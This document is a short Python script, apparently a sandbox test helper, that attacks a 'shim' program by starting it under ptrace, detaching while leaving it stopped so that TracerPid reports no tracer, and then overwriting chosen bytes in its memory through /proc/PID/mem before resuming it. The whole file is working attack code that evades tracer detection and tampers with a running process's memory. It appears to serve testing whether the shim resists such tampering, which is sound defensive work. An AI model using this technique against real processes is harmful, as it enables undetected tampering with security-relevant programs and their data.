"""The attack on a genuine shim that TracerPid cannot see, run as the sandbox user.

python3 memory_rewrite.py SHIM_LINK OLD NEW [ARG...]: starts SHIM_LINK under
PTRACE_TRACEME, and at its exec stop detaches leaving it stopped (SIGSTOP):
no tracer is attached any more. Then, like any process of the same user may
while the shim is dumpable, it rewrites OLD into NEW (same length) in the
shim's memory through /proc/PID/mem and lets it go on. Prints one JSON
line: {"patched": bool, "refused": errno name or null, "tracer_pid": N,
"status": exit status of the shim}.
"""
import ctypes
import errno
import json
import os
import signal
import sys

PTRACE_TRACEME, PTRACE_DETACH = 0, 17


def main():
    link, old, new, args = sys.argv[1], sys.argv[2].encode(), sys.argv[3].encode(), sys.argv[4:]
    assert len(old) == len(new)
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    pid = os.fork()
    if pid == 0:
        libc.ptrace(PTRACE_TRACEME, 0, None, None)
        os.execv(link, [os.path.basename(link), *args])
    _, st = os.waitpid(pid, 0)
    assert os.WIFSTOPPED(st), st
    if libc.ptrace(PTRACE_DETACH, pid, None, ctypes.c_void_p(signal.SIGSTOP)) != 0:
        raise OSError(ctypes.get_errno(), "PTRACE_DETACH")
    with open("/proc/%d/status" % pid, encoding="ascii") as f:
        tracer = [int(line.split()[1]) for line in f if line.startswith("TracerPid:")][0]
    patched, refused = False, None
    try:
        with open("/proc/%d/maps" % pid, encoding="ascii") as f:
            maps = [line.split() for line in f]
        mem = open("/proc/%d/mem" % pid, "r+b", buffering=0)
    except OSError as e:  # what a non-dumpable process's files answer
        refused = errno.errorcode.get(e.errno, str(e.errno))
    else:
        with mem:
            for fields in maps:
                start, end = (int(x, 16) for x in fields[0].split("-"))
                try:
                    mem.seek(start)
                    at = mem.read(end - start).find(old)
                except OSError:  # [vvar] and the like are not readable this way
                    continue
                if at >= 0:
                    mem.seek(start + at)
                    mem.write(new)
                    patched = True
                    break
    os.kill(pid, signal.SIGCONT)
    _, st = os.waitpid(pid, 0)
    print(json.dumps({"patched": patched, "refused": refused, "tracer_pid": tracer,
                      "status": os.waitstatus_to_exitcode(st)}))


if __name__ == "__main__":
    main()
